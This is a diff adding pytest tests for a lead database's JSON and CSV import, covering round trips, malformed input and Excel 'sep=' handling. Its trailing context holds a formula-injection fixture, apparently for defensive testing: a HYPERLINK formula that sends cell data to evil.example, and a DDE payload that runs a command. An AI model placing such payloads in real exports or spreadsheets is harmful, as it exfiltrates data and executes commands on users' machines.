@@ -490,6 +490,90 @@ def test_overwrite_never_turns_a_lead_into_another_stored_one(seeded, tmp_path):
         assert get_lead(session, acme, "ann@a.example").name == "Ann"
 
 
+def test_a_json_export_imports_back_like_the_csv_one(seeded, tmp_path):
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(session, acme, ROUND_TRIP_LEADS, source=SOURCE)
+        before = {lead.email or lead.name: lead_to_dict(lead) for lead in find_leads(session, acme)}
+        out = io.StringIO()
+        export_leads(session, acme, "json", out)
+    path = tmp_path / "exp.json"
+    path.write_text(out.getvalue(), encoding="utf-8")
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.updated, report.rejected) == (0, 2, [])
+        assert (report.filled, report.differing, report.format) == (0, [], "json")
+        columns = report.to_dict()["columns"]
+        assert columns["skipped"] == ["id", "source", "first_seen", "last_seen"]
+        assert "technologies" in columns["data"] and "_provenance" not in columns["data"]
+        after = {lead.email or lead.name: lead_to_dict(lead) for lead in find_leads(session, acme)}
+    for key, lead in before.items():
+        assert {**after[key], "last_seen": None} == {**lead, "last_seen": None}
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        ('[{"email": "a@a.example"},', "line 1: not valid JSON"),
+        ('{"email": "a@a.example"}', "a JSON import is a list of leads"),
+        ('[{"who": "Ann"}]', "no usable keys"),
+    ],
+)
+def test_import_json_that_is_no_list_of_leads(seeded, tmp_path, content, message):
+    path = tmp_path / "leads.json"
+    path.write_text(content)
+    with seeded.session() as session, pytest.raises(UsageError, match=message):
+        import_leads_csv(session, resolve_customer(session, "acme"), path)
+
+
+def test_import_json_rows_are_its_leads_from_one(seeded, tmp_path):
+    path = tmp_path / "leads.json"
+    leads = [
+        {"email": "ann@a.example", "Company Name": "A Co", "data": {"size": 3}},
+        "bob@b.example",
+        {"email": "nope", "score": 5},
+        {"email": "cy@c.example", "name": ["Cy"]},
+        {"email": "dee@d.example", "score": 70, "data": {"tags": ["x"], "note": "N/A"}},
+    ]
+    path.write_text(json.dumps({"status": "ok", "data": leads}))  # `leads list --json`
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert report.imported == 2
+        assert report.rejected == [
+            (2, 'not a lead (a JSON object) but "bob@b.example"'),
+            (3, "invalid email address 'nope'"),
+            (4, 'name is not text but ["Cy"]'),
+        ]
+        ann = get_lead(session, acme, "ann@a.example")
+        assert (ann.company, ann.data["size"]) == ("A Co", 3)
+        dee = get_lead(session, acme, "dee@d.example")
+        assert (dee.score, dee.data["tags"], "note" in dee.data) == (70, ["x"], False)
+        path.write_text("[]")
+        assert import_leads_csv(session, acme, path).imported == 0
+
+
+def test_import_excel_sep_line_and_blank_lines_before_the_header(seeded, tmp_path):
+    path = tmp_path / "excel.csv"
+    path.write_text("sep=;\n\n\nname;email\nAnn;ann@a.example\nBob;nope\n")
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        # numbered as a spreadsheet shows them: Excel hides the sep= line
+        assert report.imported == 1
+        assert report.rejected == [(5, "invalid email address 'nope'")]
+        path.write_text('\n\nemail,name\nann@a.example,"Ann\n')
+        report = import_leads_csv(session, acme, path)
+        assert report.rejected == [
+            (4, "an unterminated quoted field: the quote opening it on line 4 is never closed; "
+                "close it and import again")
+        ]  # fmt: skip
+        path.write_text('"sep=,"\nemail,"name\nann@a.example,Ann\n')
+        with pytest.raises(UsageError, match="line 2: the header has a quoted field"):
+            import_leads_csv(session, acme, path)
+
+
 FORMULAS = {
     "link": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     "dde": "=cmd|' /C calc'!A0",
